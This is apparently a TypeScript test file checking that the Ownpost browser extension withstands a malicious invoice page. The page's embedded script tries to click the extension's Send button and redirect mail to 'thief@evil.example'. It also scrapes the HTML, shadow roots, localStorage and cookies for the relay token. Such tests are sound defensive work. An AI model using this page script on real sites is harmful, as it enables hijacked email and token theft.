/**
 * The invoicing page itself is not trusted with a send: its scripts can reach into the open shadow
 * root, but a click they make opens nothing and sends nothing, a recipient they type in is caught
 * before Send, and nothing secret is ever in the page for them to read.
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startInvoiceSite, testPdf, type InvoiceSite } from '../helpers/invoice-site';
import { openSignedIn, startPairedBrowser, type PairedBrowser } from '../helpers/paired-browser';

const PDF = testPdf('hostile page 4711');

/** An invoice page whose own script tries to use Ownpost behind the user's back. */
const HOSTILE = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Invoice 4711</title></head><body>
  <h1>Invoice 4711</h1><p>Customer: Honest Ltd</p><p>Email: <a href="mailto:accounts@honest.example">accounts@honest.example</a></p>
  <a href="/invoices/4711.pdf">PDF</a>
  <script>
    const shadow = (tag) => document.querySelector(tag)?.shadowRoot;
    const inPanel = (id) => shadow('ownpost-panel-ui')?.querySelector('[data-testid="' + id + '"]');
    window.hostile = {
      clickSendButton() { shadow('ownpost-send-ui').querySelector('button').click(); },
      redirectAndSend() {
        const to = inPanel('ownpost-to');
        to.value = 'thief@evil.example';
        to.dispatchEvent(new Event('input', { bubbles: true, composed: true }));
        inPanel('ownpost-submit').click();
        inPanel('ownpost-submit').closest('form').requestSubmit();
        inPanel('ownpost-submit').dispatchEvent(new MouseEvent('click', { bubbles: true, composed: true }));
      },
      rewriteRecipient() { inPanel('ownpost-to').value = 'thief@evil.example'; },
      everythingVisible() {
        const texts = [document.documentElement.outerHTML];
        for (const element of document.querySelectorAll('*')) if (element.shadowRoot) texts.push(element.shadowRoot.innerHTML);
        return texts.join('\\n') + JSON.stringify(localStorage) + document.cookie;
      },
    };
  </script></body></html>`;

let setup: PairedBrowser;
let site: InvoiceSite;
let page: Page;

beforeAll(async () => {
  setup = await startPairedBrowser();
  site = await startInvoiceSite([{ path: '/invoices/4711', html: HOSTILE, pdf: { path: '/invoices/4711.pdf', bytes: PDF } }]);
  page = await setup.browser.context.newPage();
  await openSignedIn(page, site.origin, '/invoices/4711');
  await page.getByTestId('ownpost-send').waitFor({ timeout: 10_000 });
});

afterAll(async () => {
  await setup?.close();
  await site?.close();
});

describe('a page script against the in-page UI', () => {
  it('cannot open the panel by clicking the button', async () => {
    await page.evaluate(() => (window as unknown as { hostile: { clickSendButton(): void } }).hostile.clickSendButton());
    await page.waitForTimeout(500);
    expect(await page.getByTestId('ownpost-panel').count()).toBe(0);
  });

  it('cannot send, by clicking Send or submitting the form, and its recipient is refused when the user sends', async () => {
    await page.getByTestId('ownpost-send').click();
    await expect.poll(() => page.getByTestId('ownpost-to').inputValue()).toBe('accounts@honest.example');
    await expect.poll(() => page.getByTestId('ownpost-attachment').textContent(), { timeout: 10_000 }).toContain('4711.pdf');

    await page.evaluate(() => (window as unknown as { hostile: { redirectAndSend(): void } }).hostile.redirectAndSend());
    await page.waitForTimeout(1500);
    expect(setup.smtp.received).toHaveLength(0);
    expect(await page.getByTestId('ownpost-status').count()).toBe(0);

    // Whether or not the panel has already put the user's value back, a page that quietly rewrites
    // the field (no event at all) just before the user presses Send is caught: Ownpost stops and
    // puts the user's address back.
    await page.evaluate(() => (window as unknown as { hostile: { rewriteRecipient(): void } }).hostile.rewriteRecipient());
    expect(await page.getByTestId('ownpost-to').inputValue()).toBe('thief@evil.example');
    await page.getByTestId('ownpost-submit').click();
    await expect.poll(() => page.getByTestId('ownpost-status').getAttribute('data-state')).toBe('error');
    expect(await page.getByTestId('ownpost-to').inputValue()).toBe('accounts@honest.example');

    await page.getByTestId('ownpost-submit').click();
    await expect.poll(() => page.getByTestId('ownpost-status').getAttribute('data-state'), { timeout: 20_000 }).toBe('sent');
    const [mail] = await setup.smtp.waitForMessages(1);
    expect(mail!.envelope.to).toEqual(['accounts@honest.example']);
    expect(Buffer.compare(mail!.parsed.attachments[0]!.content, PDF)).toBe(0);
    await page.waitForTimeout(300);
    expect(setup.smtp.received).toHaveLength(1);
  });

  it('never finds the relay token in the page, its shadow roots, storage or cookies', async () => {
    const visible = await page.evaluate(() => (window as unknown as { hostile: { everythingVisible(): string } }).hostile.everythingVisible());
    expect(visible).toContain('accounts@honest.example');
    expect(visible).not.toContain(setup.user.token);
    const stored = await setup.extensionPage.evaluate(async () => {
      const api = (globalThis as unknown as { chrome: { storage: { local: { get(key: string): Promise<Record<string, { token?: string }>> } } } }).chrome;
      return (await api.storage.local.get('connection')).connection?.token;
    });
    expect(stored).toBeTruthy();
    expect(visible).not.toContain(stored);
  });
});
